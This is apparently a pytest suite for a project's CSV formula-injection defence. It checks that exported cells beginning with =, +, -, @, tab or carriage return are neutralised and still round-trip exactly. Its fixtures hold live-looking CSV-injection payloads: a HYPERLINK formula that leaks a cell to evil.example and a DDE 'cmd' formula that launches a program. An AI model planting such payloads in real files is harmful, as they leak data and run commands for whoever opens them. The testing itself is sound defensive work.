"""No CSV the project writes holds a live formula, and the tags CSV still round-trips exactly."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from reader.cli import main
from reader.core.csv_safety import FORMULA_TRIGGERS, neutralise, restore, write_csv
from reader.core.tags import TagRow, TagStore, dump_rows, import_text, parse_rows

FP = "ab" * 32
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
DDE = "=cmd|' /C calc'!A0"
# One cell per trigger, and the cells that must come back exactly though they look half-escaped.
HOSTILE_CELLS = (HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "'=1", "''@x", "'tis", "x=1", "")


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def is_live(cell: str) -> bool:
    return cell[:1] in tuple(FORMULA_TRIGGERS)


# --- the core rule ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # one more quote, so the import can take exactly one off
        ("'tis", "'tis"),
        ("x=1", "x=1"),
        ("", ""),
    ],
)
def test_a_cell_starting_with_a_trigger_gets_one_quote_and_nothing_else_changes(cell: str, written: str) -> None:
    assert neutralise(cell) == written
    assert restore(written) == cell


@settings(max_examples=2000, deadline=None, database=None)
@given(st.text(alphabet=st.sampled_from("'=+-@\t\rax \"\n,|") | st.characters(), max_size=12))
@example("''''=")
def test_neutralise_is_safe_and_restore_undoes_it_for_any_text(cell: str) -> None:
    written = neutralise(cell)
    assert not is_live(written)
    assert restore(written) == cell


@settings(max_examples=300, deadline=None, database=None)
@given(st.lists(st.lists(st.text(max_size=10), min_size=3, max_size=3), max_size=5))
def test_a_written_table_reads_back_cell_for_cell(table: list[list[str]]) -> None:
    read = rows_of(write_csv(["a", "b", "c"], table))
    assert read[0] == ["a", "b", "c"]
    assert [[restore(cell) for cell in row] for row in read[1:]] == table
    assert not any(is_live(cell) for row in read for cell in row)


# --- the quote sheet ------------------------------------------------------------------------------


def test_the_quote_sheet_writes_no_live_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "leak.txt").write_text(
        "Minister Defends Link\n\n"
        f'"{HYPERLINK}," the minister, Jane Doe, said on Monday.\n\n'
        f'"{DDE}," said Tom Roe, a spokesman for the group.\n',
        encoding="utf-8",
    )
    sheet = tmp_path / "quotes.csv"
    assert main(["quotes", "--path", str(corpus), "-o", str(sheet)]) == 0
    rows = rows_of(sheet.read_text(encoding="utf-8"))
    quotes = [row[1] for row in rows[1:]]
    assert any(quote.startswith("'=HYPERLINK(") for quote in quotes), quotes
    assert any(quote.startswith("'" + DDE) for quote in quotes), quotes
    assert not [cell for row in rows for cell in row if is_live(cell)]
    assert main(["quotes", "--path", str(corpus)]) == 0  # standard output: the same sheet
    assert capsys.readouterr().out == sheet.read_bytes().decode("utf-8")


# --- the tags export ----------------------------------------------------------------------------


def test_a_formula_tag_is_neutralised_in_the_export_and_restored_by_the_import(tmp_path: Path) -> None:
    added = "2024-05-01T00:00:00+00:00"
    rows = [TagRow(tag=tag, fingerprint=f"{number:064x}", path=f"/corpus/{number}.txt", added=added)
            for number, tag in enumerate([DDE, "@home", "-draft", "+1", "'=quoted", "plain"])]
    rows.append(TagRow(tag="x", fingerprint=FP, path="=/odd/path.txt", added=added))
    text = dump_rows(rows, "csv")
    assert not [cell for row in rows_of(text) for cell in row if is_live(cell)]
    assert "'" + DDE in rows_of(text)[1]
    assert parse_rows(text) == (rows, [])
    with TagStore(tmp_path / "tags.sqlite3") as store:
        report = import_text(store, text)
        assert (report.added, report.skipped) == (len(rows), ())
        assert sorted(row.tag for row in store.export_rows()) == sorted(row.tag for row in rows)
        assert dump_rows(store.export_rows(), "csv") == dump_rows(sorted(rows, key=lambda r: r.path), "csv")


@settings(max_examples=200, deadline=None, database=None)
@given(st.lists(st.sampled_from(HOSTILE_CELLS[:-1]) | st.text(min_size=1, max_size=8), min_size=1, max_size=5))
def test_any_tag_text_survives_csv_export_and_import_exactly(tags: list[str]) -> None:
    from reader.core.tags import TagError, normalise_tag

    kept: list[TagRow] = []
    for number, tag in enumerate(tags):
        try:
            name = normalise_tag(tag)
        except TagError:
            continue
        kept.append(TagRow(tag=name, fingerprint=FP, path=f"/c/{number}.txt", added="2024-05-01T00:00:00+00:00"))
    assert parse_rows(dump_rows(kept, "csv")) == (kept, [])


def test_the_tags_export_command_writes_the_formula_tag_inert_and_imports_it_back(
    seeds: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    corpus = Path(shutil.copytree(seeds, tmp_path / "corpus"))
    article = sorted(corpus.glob("*.txt"))[0]
    assert main(["tag", "add", str(article), DDE, "@mention"]) == 0
    backup = tmp_path / "tags.csv"
    assert main(["tags", "export", "-o", str(backup)]) == 0
    written = backup.read_text(encoding="utf-8")
    assert not [cell for row in rows_of(written) for cell in row if is_live(cell)]
    monkeypatch.setenv("READER_HOME", str(tmp_path / "elsewhere"))
    assert main(["tags", "import", str(backup)]) == 0
    capsys.readouterr()
    assert main(["tag", "list", "--json"]) == 0
    assert sorted(item["tag"] for item in json.loads(capsys.readouterr().out)) == sorted([DDE, "@mention"])
